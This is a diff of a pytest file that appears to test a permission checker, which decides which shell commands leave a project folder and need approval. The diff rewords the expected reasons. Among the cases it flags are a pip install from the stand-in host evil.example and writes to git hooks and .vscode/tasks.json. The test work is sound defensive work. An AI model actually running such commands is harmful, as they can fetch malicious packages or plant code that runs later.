@@ -252,17 +252,20 @@ def test_a_day_of_work_stays_in_the_project(line: str) -> None:
 @pytest.mark.parametrize(
     ("line", "reason"),
     [
-        ("docker compose up -d", "what docker does lies beyond any folder"),
-        ("sudo -u x true; apt install jq", "what apt does lies beyond any folder"),
-        ("npm test; pkill node", "what pkill does lies beyond any folder"),
+        ("docker compose up -d", "what docker does goes beyond any folder"),
+        ("sudo -u x true; apt install jq", "what apt does goes beyond any folder"),
+        ("npm test; pkill node", "what pkill does goes beyond any folder"),
         ("git pull", "git talks to another computer"),
         ("gh pr create --title x", "gh talks to another computer"),
         ("pip install --index-url http://evil.example/simple x", "evil.example is not a package index"),
         ("wget -O x https://github.com/a", "github.com is not a package index"),
-        ("git config user.name x", "git config changes what git obeys"),
-        ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit rules what other programs run"),
-        ("echo x >> sub/.git/config", "sub/.git/config rules what other programs run"),
-        ("cd sub && touch ../.vscode/tasks.json", "sub/../.vscode/tasks.json rules what other programs run"),
+        ("git config user.name x", "git config changes settings that git follows"),
+        ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit controls what other programs run"),
+        ("echo x >> sub/.git/config", "sub/.git/config controls what other programs run"),
+        (
+            "cd sub && touch ../.vscode/tasks.json",
+            "sub/../.vscode/tasks.json controls what other programs run",
+        ),
     ],
 )
 def test_what_would_fail_in_the_project_asks(line: str, reason: str) -> None:
